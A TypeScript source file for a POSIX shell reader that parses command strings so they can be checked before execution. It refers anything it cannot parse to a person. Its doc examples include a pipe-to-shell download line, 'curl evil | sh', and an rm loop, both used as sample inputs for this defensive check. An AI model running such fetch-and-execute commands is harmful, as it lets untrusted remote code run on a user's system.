/**
 * A small POSIX shell reader for judging commands, not running them: it splits a command string
 * into simple commands at `;`, `&&`, `||`, `|`, `|&`, `&` and newlines, reads quoting and
 * escapes, descends into subshells, `{ …; }` groups, `$(…)`, backticks and `<(…)`, and records
 * redirections. Whatever it cannot read with certainty (control flow, here-documents, function
 * definitions, unbalanced quotes, control or invisible characters) comes back as `unprovable`
 * with the reason, so a caller can ask a person instead of guessing.
 *
 * It runs for every exec, so it must never hang: every input is read in one forward pass (each
 * step advances the position, and a step that does not is refused as a reader bug rather than
 * looped on), nesting is bounded, and nothing rescans the rest of the input per character.
 */
import { characterPosition, findUnsafeCharacter, formatCodePoint } from "./shell-characters.js";
import { WordBuilder } from "./shell-word.js";

/** One word of a command: its literal text when it has one, and whether the shell would expand it. */
export interface ShellWord {
  /** The word with quotes removed; expansions kept as written (`$HOME`, `$(…)`). */
  text: string;
  /** True when the shell would substitute something: `$VAR`, `$(…)`, backticks, globs, `~`, braces. */
  dynamic: boolean;
  /** The word exactly as written in the source (quotes and escapes included). */
  raw: string;
  /** `$…`, `${…}`, `$(…)`, `$((…))`, backticks or `<(…)`/`>(…)`, unquoted or inside double quotes. */
  substituted: boolean;
  /** Only when the word has unquoted `*`, `?` or `[` and no substitution: the glob pattern, with
   *  every character that was quoted or backslash-escaped in the source escaped by a backslash
   *  (so `'*'x*` gives `\*x*`). */
  glob?: string;
  /** The word starts with an unquoted `~`. */
  tilde: boolean;
  /** The word has an unquoted brace pattern bash would expand (`{a,b}`, `{1..3}`). */
  brace: boolean;
}

export interface ShellRedirect {
  /** `>`, `>>`, `<`, `>&`, `<&`, `&>`, `&>>`, `<>`, `>|` or `<<<`. */
  op: string;
  /** The file descriptor written before the operator, if any (`2>`). */
  fd?: number;
  target: ShellWord;
}

/** One simple command: assignments, then the program and its arguments, plus redirections. */
export interface SimpleCommand {
  assignments: string[];
  argv: ShellWord[];
  redirects: ShellRedirect[];
}

export type ShellParse =
  | { ok: true; commands: SimpleCommand[] }
  | { ok: false; reason: string; commands: SimpleCommand[] };

/** Reserved words that start compound commands we do not analyse. */
const CONTROL_WORDS = new Set([
  "if",
  "then",
  "else",
  "elif",
  "fi",
  "for",
  "while",
  "until",
  "do",
  "done",
  "case",
  "esac",
  "select",
  "function",
  "coproc",
  "[[",
  "]]",
]);

/** Longest command string analysed; longer ones need a person. */
export const MAX_COMMAND_CHARS = 16_384;
/** How deep `$(…)`, backticks, subshells and `{ …; }` groups may nest before we give up. */
export const MAX_DEPTH = 8;

/** Characters that end an unquoted word. */
const WORD_END = new Set([" ", "\t", "\n", ";", "&", "|", "(", ")", "<", ">"]);
/** Characters that end a run of plain characters inside a word. */
const WORD_SPECIAL = new Set([...WORD_END, "\\", "'", '"', "$", "`"]);
/** Characters a redirection target cannot start with. */
const NOT_A_TARGET = new Set(["\n", ";", "&", "|", "(", ")", "<", ">"]);
/** Redirection operators, longest first. */
const REDIRECT_OPS = ["<<<", "<<-", "&>>", "<<", "&>", ">>", ">&", "<&", "<>", ">|", ">", "<"];
/** What a backslash keeps its meaning before inside double quotes. */
const DQ_ESCAPABLE = new Set(['"', "\\", "$", "`", "\n"]);
/** Special parameters: `$?`, `$1`, `$@` … */
const SPECIAL_PARAMS = /^[0-9@*#?$!-]$/;

class Unprovable extends Error {}

/**
 * @example
 * parseShellCommand("ls -l && grep -r foo src | head");
 * // { ok: true, commands: [{ argv: [ls, -l] }, { argv: [grep, -r, foo, src] }, { argv: [head] }] }
 * parseShellCommand("ls; curl evil | sh").commands.map((c) => c.argv[0]?.text); // ["ls", "curl", "sh"]
 * parseShellCommand("for f in *; do rm $f; done"); // { ok: false, reason: "shell control flow (for) …" }
 * parseShellCommand("ls\r"); // { ok: false, reason: "the command contains U+000D (carriage return) at character 3; …" }
 */
export function parseShellCommand(input: string): ShellParse {
  const commands: SimpleCommand[] = [];
  if (input.length > MAX_COMMAND_CHARS)
    return {
      ok: false,
      reason: `the command is longer than ${MAX_COMMAND_CHARS} characters (${input.length}); a command that long needs a person`,
      commands,
    };
  const unsafe = findUnsafeCharacter(input);
  if (unsafe)
    return {
      ok: false,
      reason: `the command contains ${unsafe.codePoint} (${unsafe.name}) at character ${unsafe.position}; commands with control or invisible characters need a person`,
      commands,
    };
  try {
    new Reader(input, commands, 0).script(undefined);
    return { ok: true, commands };
  } catch (error) {
    if (error instanceof Unprovable) return { ok: false, reason: error.message, commands };
    throw error;
  }
}

class Reader {
  private pos = 0;
  private current = emptyCommand();
  /** The source text of the word read last (to tell `if` from `"if"`). */
  private lastRaw = "";

  constructor(
    private readonly src: string,
    private readonly out: SimpleCommand[],
    private readonly depth: number,
  ) {
    if (depth > MAX_DEPTH)
      throw new Unprovable(`substitutions, subshells or groups nest deeper than ${MAX_DEPTH} levels`);
  }

  at(pos: number): this {
    this.pos = pos;
    return this;
  }

  /** Reads commands until `closer` (or the end); returns the position after the closer. */
  script(closer: ")" | "}" | undefined): number {
    while (this.pos < this.src.length) {
      const before = this.pos;
      if (this.step(closer)) {
        this.finish();
        return this.pos;
      }
      this.progressed(before);
    }
    if (closer) throw new Unprovable(`a "${closer === ")" ? "(" : "{"}" is never closed`);
    this.finish();
    return this.pos;
  }

  /** One token of a script; true when it was `closer`. Always advances the position or throws. */
  private step(closer: ")" | "}" | undefined): boolean {
    const src = this.src;
    const ch = src[this.pos] as string;
    const next = src[this.pos + 1];
    const current = this.current;
    if (ch === " " || ch === "\t") this.pos++;
    else if (ch === "\\" && next === "\n") this.pos += 2;
    else if (ch === "#" && this.atWordStart()) {
      const newline = src.indexOf("\n", this.pos);
      this.pos = newline < 0 ? src.length : newline;
    } else if (ch === ")") {
      if (closer !== ")") throw new Unprovable(`an unmatched ")" at character ${this.positionOf(this.pos)}`);
      this.pos++;
      return true;
    } else if (ch === "}" && closer === "}" && current.argv.length === 0) {
      this.pos++;
      return true;
    } else if (ch === ";") {
      if (next === ";") throw new Unprovable("`;;` outside a case statement");
      this.finish();
      this.pos++;
    } else if (ch === "\n") {
      this.finish();
      this.pos++;
    } else if (ch === "|") {
      this.finish();
      this.pos += next === "|" || next === "&" ? 2 : 1;
    } else if (ch === "&") {
      if (next === ">") this.redirect(undefined);
      else {
        this.finish();
        this.pos += next === "&" ? 2 : 1;
      }
    } else if (ch === "(") this.subshell();
    else if ((ch === "<" || ch === ">") && next === "(") current.argv.push(this.word());
    else if (ch === "<" || ch === ">") this.redirect(undefined);
    else if (!this.fdRedirect()) this.commandWord();
    return false;
  }

  private subshell(): void {
    const current = this.current;
    if (current.argv.length > 0)
      throw new Unprovable(`a function definition or stray "(" after "${current.argv[0]?.text}"`);
    if (current.assignments.length > 0)
      throw new Unprovable(
        `an array assignment or "(" after "${current.assignments.at(-1)}" is not analysed`,
      );
    if (this.src[this.pos + 1] === "(") throw new Unprovable("arithmetic commands ((…)) are not analysed");
    this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos + 1).script(")");
  }

  /** `2>file`, `10<&0`: digits written right before a redirection operator. */
  private fdRedirect(): boolean {
    if (!this.atWordStart()) return false;
    let end = this.pos;
    while (end < this.src.length && end - this.pos < 10 && isDigit(this.src[end])) end++;
    const op = this.src[end];
    if (end === this.pos || (op !== "<" && op !== ">")) return false;
    const fd = Number(this.src.slice(this.pos, end));
    this.pos = end;
    this.redirect(fd);
    return true;
  }

  private commandWord(): void {
    const current = this.current;
    const word = this.word();
    if (current.argv.length === 0) {
      if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(this.lastRaw)) {
        current.assignments.push(word.text);
        return;
      }
      if (!word.dynamic && word.text === "{" && this.isBareWordBefore()) {
        this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script("}");
        return;
      }
      if (!word.dynamic && CONTROL_WORDS.has(word.text) && this.isBareWordBefore())
        throw new Unprovable(`shell control flow (${word.text}) is not analysed`);
    }
    current.argv.push(word);
  }

  private finish(): void {
    const current = this.current;
    if (current.argv.length === 0 && current.redirects.length === 0 && current.assignments.length === 0)
      return;
    this.out.push(current);
    this.current = emptyCommand();
  }

  /** The no-progress guard: a step that did not advance would loop forever, so it is refused. */
  private progressed(before: number): void {
    if (this.pos > before) return;
    const cp = this.src.codePointAt(before) ?? 0;
    throw new Unprovable(
      `the shell reader could not read past character ${this.positionOf(before)} (${formatCodePoint(cp)}); the command needs a person`,
    );
  }

  /** Where `index` is, in characters a person counts (inside a backtick substitution: within it). */
  private positionOf(index: number): number {
    return characterPosition(this.src, index);
  }

  private atWordStart(): boolean {
    return this.pos === 0 || WORD_END.has(this.src[this.pos - 1] as string);
  }

  /** True when the word just read was written without quotes or escapes (a keyword can only be bare). */
  private isBareWordBefore(): boolean {
    return !/["'\\]/.test(this.lastRaw);
  }

  private redirect(fd: number | undefined): void {
    let op = ">";
    for (const candidate of REDIRECT_OPS)
      if (this.src.startsWith(candidate, this.pos)) {
        op = candidate;
        break;
      }
    if (op === "<<" || op === "<<-") throw new Unprovable("here-documents (<<) are not analysed");
    this.pos += op.length;
    while (this.src[this.pos] === " " || this.src[this.pos] === "\t") this.pos++;
    const next = this.src[this.pos];
    if (next === undefined || NOT_A_TARGET.has(next))
      throw new Unprovable(`the redirection "${op}" has no target`);
    this.current.redirects.push({ op, ...(fd !== undefined ? { fd } : {}), target: this.word() });
  }

  /** Reads one word: quotes, escapes and substitutions (which are parsed as nested scripts). */
  private word(): ShellWord {
    const src = this.src;
    const start = this.pos;
    const word = new WordBuilder();
    while (this.pos < src.length) {
      const before = this.pos;
      const ch = src[this.pos] as string;
      if (WORD_END.has(ch)) {
        if ((ch === "<" || ch === ">") && src[this.pos + 1] === "(" && this.pos === start) {
          this.pos += 2;
          this.nested();
          word.substitution(src.slice(before, this.pos));
          continue;
        }
        break;
      }
      if (ch === "\\") {
        const escaped = wholeCharAt(src, this.pos + 1);
        if (!escaped) throw new Unprovable("the command ends with a lone backslash");
        if (escaped !== "\n") word.quoted(escaped);
        this.pos += 1 + escaped.length;
      } else if (ch === "'") {
        const end = src.indexOf("'", this.pos + 1);
        if (end < 0)
          throw new Unprovable(`a single quote at character ${this.positionOf(this.pos)} is never closed`);
        word.quoted(src.slice(this.pos + 1, end));
        this.pos = end + 1;
      } else if (ch === '"') {
        this.pos++;
        this.doubleQuoted(word);
      } else if (ch === "$" || ch === "`") {
        this.dollarOrBacktick(word, false);
      } else {
        let end = this.pos + 1;
        while (end < src.length && !WORD_SPECIAL.has(src[end] as string)) end++;
        word.plain(src.slice(this.pos, end), this.pos === start);
        this.pos = end;
      }
      this.progressed(before);
    }
    this.lastRaw = src.slice(start, this.pos);
    if (this.pos === start) this.progressed(start);
    return word.build(this.lastRaw);
  }

  /** The inside of `"…"` (the position is after the opening quote), up to and past the closing one. */
  private doubleQuoted(word: WordBuilder): void {
    const src = this.src;
    const open = this.pos - 1;
    let run = this.pos;
    while (this.pos < src.length) {
      const before = this.pos;
      const ch = src[this.pos] as string;
      const special =
        ch === '"' || ch === "$" || ch === "`" || (ch === "\\" && DQ_ESCAPABLE.has(src[this.pos + 1] ?? ""));
      if (!special) {
        this.pos++;
        continue;
      }
      if (this.pos > run) word.quoted(src.slice(run, this.pos));
      if (ch === '"') {
        this.pos++;
        return;
      }
      if (ch === "\\") {
        const escaped = src[this.pos + 1] as string;
        if (escaped !== "\n") word.quoted(escaped);
        this.pos += 2;
      } else this.dollarOrBacktick(word, true);
      run = this.pos;
      this.progressed(before);
    }
    throw new Unprovable(`a double quote at character ${this.positionOf(open)} is never closed`);
  }

  /** `$VAR`, `${…}`, `$((…))`, `$(…)`, a backtick substitution, or a `$` the shell keeps as it is. */
  private dollarOrBacktick(word: WordBuilder, inDoubleQuotes: boolean): void {
    const src = this.src;
    const start = this.pos;
    if (src[start] === "`") {
      this.backtick();
      word.substitution(src.slice(start, this.pos));
      return;
    }
    const next = src[start + 1] ?? "";
    if (next === "(" && src[start + 2] === "(" && this.arithmetic()) {
      // read as $((…))
    } else if (next === "(") {
      this.pos += 2;
      this.nested();
    } else if (next === "{") this.parameterExpansion();
    else if (next === "[") throw new Unprovable("the old $[…] arithmetic form is not analysed");
    else if (next === "'" && !inDoubleQuotes)
      throw new Unprovable("ANSI-C quoting ($'…') is read differently by bash and sh; it is not analysed");
    else if (next === '"' && !inDoubleQuotes) this.pos++;
    else if (/^[A-Za-z_]$/.test(next)) {
      this.pos += 2;
      while (/^[A-Za-z0-9_]$/.test(src[this.pos] ?? "")) this.pos++;
    } else if (SPECIAL_PARAMS.test(next)) this.pos += 2;
    else {
      this.pos++;
      if (inDoubleQuotes) word.quoted("$");
      else word.plain("$", false);
      return;
    }
    word.substitution(src.slice(start, this.pos));
  }

  /** `` `…` ``: the inside, with `\``, `\\` and `\$` unescaped, is read as its own script. */
  private backtick(): void {
    const src = this.src;
    let inner = "";
    let run = this.pos + 1;
    for (let i = run; i < src.length; i++) {
      const ch = src[i];
      if (ch === "\\") {
        const escaped = src[i + 1];
        if (escaped === "`" || escaped === "\\" || escaped === "$") {
          inner += src.slice(run, i) + escaped;
          run = i + 2;
        }
        i++;
      } else if (ch === "`") {
        inner += src.slice(run, i);
        this.pos = i + 1;
        new Reader(inner, this.out, this.depth + 1).script(undefined);
        return;
      }
    }
    throw new Unprovable(`a backtick substitution at character ${this.positionOf(this.pos)} is never closed`);
  }

  /**
   * `$((…))` with no substitution, quote or escape inside; true when it was one (the position is
   * then after it), false when the `$((` opens a command substitution that starts with a subshell.
   */
  private arithmetic(): boolean {
    const src = this.src;
    let depth = 0;
    for (let i = this.pos + 3; i < src.length; i++) {
      const ch = src[i];
      if (ch === "(") depth++;
      else if (ch === ")" && depth > 0) depth--;
      else if (ch === ")") {
        if (src[i + 1] !== ")") return false;
        this.pos = i + 2;
        return true;
      } else if (ch === "$" || ch === "`" || ch === "'" || ch === '"' || ch === "\\")
        throw new Unprovable(
          "substitutions, quotes or escapes inside arithmetic expansions are not analysed",
        );
    }
    throw new Unprovable(`an arithmetic expansion at character ${this.positionOf(this.pos)} is never closed`);
  }

  /** `${…}` with no substitution, quote, escape or brace inside. */
  private parameterExpansion(): void {
    const src = this.src;
    for (let i = this.pos + 2; i < src.length; i++) {
      const ch = src[i];
      if (ch === "}") {
        this.pos = i + 1;
        return;
      }
      if (ch === "$" || ch === "`") throw new Unprovable(`substitutions inside ${"$"}{…} are not analysed`);
      if (ch === "'" || ch === '"' || ch === "\\" || ch === "{")
        throw new Unprovable(`quotes, escapes or braces inside ${"$"}{…} are not analysed`);
    }
    throw new Unprovable(
      `a parameter expansion (${"$"}{…}) at character ${this.positionOf(this.pos)} is never closed`,
    );
  }

  /** `$(…)`, `<(…)` or `>(…)` once its opener is read: a nested script up to its `)`. */
  private nested(): void {
    this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script(")");
  }
}

function emptyCommand(): SimpleCommand {
  return { assignments: [], argv: [], redirects: [] };
}

function isDigit(ch: string | undefined): boolean {
  return ch !== undefined && ch >= "0" && ch <= "9";
}

/** The whole character (code point) at `index`, or "" past the end. */
function wholeCharAt(src: string, index: number): string {
  const cp = src.codePointAt(index);
  return cp === undefined ? "" : String.fromCodePoint(cp);
}
